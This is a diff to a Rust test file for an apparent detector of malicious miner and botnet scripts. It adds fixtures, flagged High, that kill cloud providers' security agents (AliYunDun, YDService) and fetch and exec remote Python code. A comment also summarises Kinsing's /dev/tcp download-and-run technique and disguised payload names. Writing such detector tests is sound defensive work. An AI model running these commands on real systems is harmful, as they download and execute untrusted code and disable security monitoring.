@@ -7868,9 +7868,10 @@ fn downloads_a_script_hands_to_eval() {
 /// and Kinsing's `/dev/tcp` download function (`__curl URL | sh`, no curl, the connection made
 /// in a forked subshell), a payload copied under a kernel thread's name (Outlaw's `kswapd0`,
 /// `[kthreadd]`) or a library's (XorDDoS's `libudev.so.6`) and run, other miners killed by
-/// name. A benign twin of each (the same function's output counted, a copied tool under its
-/// own name, glibc's runnable `libc.so.6`, `pkill` of an ordinary name) raises nothing at
-/// Medium or above.
+/// name, the cloud's host agent removed, a program fetched and exec'd inside python. A benign
+/// twin of each (the same function's output counted, a copied tool under its own name, glibc's
+/// runnable `libc.so.6`, `pkill` of an ordinary name, python printing what it fetched) raises
+/// nothing at Medium or above.
 #[test]
 fn miner_and_botnet_script_behaviours_and_their_benign_twins() {
     if !privileged("miner_and_botnet_script_behaviours_and_their_benign_twins") {
@@ -7965,5 +7966,27 @@ fn miner_and_botnet_script_behaviours_and_their_benign_twins() {
     quiet(
         "pkill-own.sh",
         &format!("pkill -f vigil-worker-{n}\nkillall -q vigil-worker-{n}\ntrue"),
+    );
+    // The cloud provider's host agent removed (none runs here), a program fetched and
+    // executed inside python; python fetching and printing raises nothing at Medium.
+    raised(
+        "cloud-agents.sh",
+        "pkill -x AliYunDun\nkillall -q YDService\ntrue",
+        "evasion-disable-security",
+        SeverityLabel::High,
+    );
+    raised(
+        "py-exec.sh",
+        &format!(
+            "python3 -c \"import urllib.request;exec(urllib.request.urlopen('{url}/v.py').read())\""
+        ),
+        "exec-interpreter-downloaded-program",
+        SeverityLabel::High,
+    );
+    quiet(
+        "py-print.sh",
+        &format!(
+            "python3 -c \"import urllib.request;print(urllib.request.urlopen('{url}/v.json').read())\""
+        ),
     );
 }
